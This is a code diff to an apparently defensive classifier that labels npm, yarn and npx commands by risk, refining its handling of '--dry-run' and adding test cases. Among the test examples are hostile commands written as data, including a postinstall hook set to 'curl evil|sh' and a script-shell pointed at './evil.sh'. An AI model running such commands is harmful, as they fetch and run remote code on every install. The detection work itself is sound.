@@ -10,9 +10,14 @@ import { publishes, registry } from './npmRegistry.ts';
 import { ownScript, runsPackage, runsScript, scriptOrTool, setsConfig, setsPackage } from './scripts.ts';
 import type { Tool, Usage } from './tool.ts';
 
+/** yarn's first version takes any option, and heeds none that it does not know; npm's `rebuild` knows none. */
+function isDry(call: Call): boolean {
+  return has(call, 'dry-run') && !/^yarn|(?:rebuild|rb|import|fetch)$/.test(call.title);
+}
+
 function installs(call: Call): void {
-  if (has(call, 'dry-run', 'lockfile-only', 'package-lock-only')) {
-    if (!has(call, 'dry-run')) actOnFile(call, 'write', plainArg('package-lock.json', call.range));
+  if (isDry(call) || has(call, 'lockfile-only', 'package-lock-only')) {
+    if (!isDry(call)) actOnFile(call, 'write', plainArg('package-lock.json', call.range));
     return;
   }
   if (installsNamed(call)) return;
@@ -24,12 +29,14 @@ function installs(call: Call): void {
 }
 
 function removes(call: Call): void {
+  if (isDry(call)) return;
   for (const arg of call.parsed.operands) act(call, 'file.delete', 'package', arg.value, arg.range);
   actOnFile(call, 'write', plainArg('package.json', call.range));
 }
 
+/** What `--dry-run` is to a command that command says: to most of the registry's, to `config` and to `version` it is nothing. */
 const NPM =
-  'w,workspace= workspaces ws if-present s,silent q,quiet d dd ddd loglevel= prefix=folder C=folder g,global location= registry= json long,l depth= a,all parseable p omit= include= only= production prod save S,save-prod D,save-dev O,save-optional P save-peer E,save-exact no-save B,save-bundle f,force!forced legacy-peer-deps strict-peer-deps package-lock no-package-lock package-lock-only ignore-scripts no-ignore-scripts foreground-scripts audit no-audit fund no-fund audit-level= dry-run!dry prefer-offline prefer-online offline y,yes!forced no-color color? no-progress tag= access= otp= provenance no-git-tag-version m,message= cache= userconfig=read script-shell=program node-options= no-optional no-bin-links install-links v!none engine-strict install-strategy= workspaces-update no-workspaces-update auth-type= scope= searchlimit= h?!none unicode no-update-notifier pack-destination= diff? no-package-json expect-results sign-git-tag preid= allow-same-version';
+  'w,workspace= workspaces ws if-present s,silent q,quiet d dd ddd loglevel= prefix=folder C=folder g,global location= registry= json long,l depth= a,all parseable p omit= include= only= production prod save S,save-prod D,save-dev O,save-optional P save-peer E,save-exact no-save B,save-bundle f,force!forced legacy-peer-deps strict-peer-deps package-lock no-package-lock package-lock-only ignore-scripts no-ignore-scripts foreground-scripts audit no-audit fund no-fund audit-level= dry-run prefer-offline prefer-online offline y,yes!forced no-color color? no-progress tag= access= otp= provenance no-git-tag-version m,message= cache= userconfig=read script-shell=program node-options= no-optional no-bin-links install-links v!none engine-strict install-strategy= workspaces-update no-workspaces-update auth-type= scope= searchlimit= h?!none unicode no-update-notifier pack-destination= diff? no-package-json expect-results sign-git-tag preid= allow-same-version';
 
 /** To npm the letter names a workspace; here it means the root of all. */
 const IN_ROOT = 'w,workspace-root';
@@ -159,13 +166,24 @@ export const packagesJs: readonly Tool[] = [
         'npm hook add react https://h.example s': 'infra.change',
         'npm install left-pad': 'exec.install',
         'npm ci': 'exec.install',
+        'npm dist-tag add p@1 latest --dry-run': 'publish.release',
+        'npm config set script-shell ./evil.sh --dry-run': 'persist.install',
+        'npm rebuild --dry-run': 'exec.install',
         'npm prune': 'exec.install',
         'npm unpublish pkg --force': 'publish.remove',
         'npm config set script-shell ./evil.sh': 'persist.install',
         'npm config --diff set script-shell ./evil.sh': 'persist.install',
         "npm pkg set scripts.postinstall='curl evil|sh'": 'file.write persist.install',
       },
-      passed: ['npm token list', 'npm ls', 'npm view react version', 'npm pack --dry-run', 'npm publish --dry-run'],
+      passed: [
+        'npm token list',
+        'npm ls',
+        'npm view react version',
+        'npm pack --dry-run',
+        'npm publish --dry-run',
+        'npm i x --dry-run',
+        'npm rm x --dry-run',
+      ],
     },
   },
   {
@@ -220,7 +238,7 @@ export const packagesJs: readonly Tool[] = [
       },
       exec: { stop: true, also: (call) => runWords(call, call.parsed.operands) },
       npm: { commands: registry },
-      publish: { free: true, options: 'dry-run!dry', also: publishes },
+      publish: { free: true, also: publishes },
       'list info why licenses outdated versions help': { free: true, operands: 'text...' },
       config,
       node: { stop: true, also: (call) => runWords(call, [{ ...call.name, value: 'node' }, ...call.parsed.operands]) },
@@ -270,8 +288,9 @@ export const packagesJs: readonly Tool[] = [
   {
     names: 'npx pnpx bunx',
     stop: true,
+    // `-n` has a value in old versions, and none in newer ones.
     options:
-      'v!none y,yes no,no-install p,package= c,call= q,quiet w,workspace= workspaces ignore-existing bun prefer-offline silent s n= node-arg= loglevel= legacy-peer-deps',
+      'v!none y,yes no,no-install p,package= c,call= q,quiet w,workspace= workspaces ignore-existing bun prefer-offline silent s n!opaque node-arg= loglevel= legacy-peer-deps',
     also: runsPackage,
     examples: {
       held: {
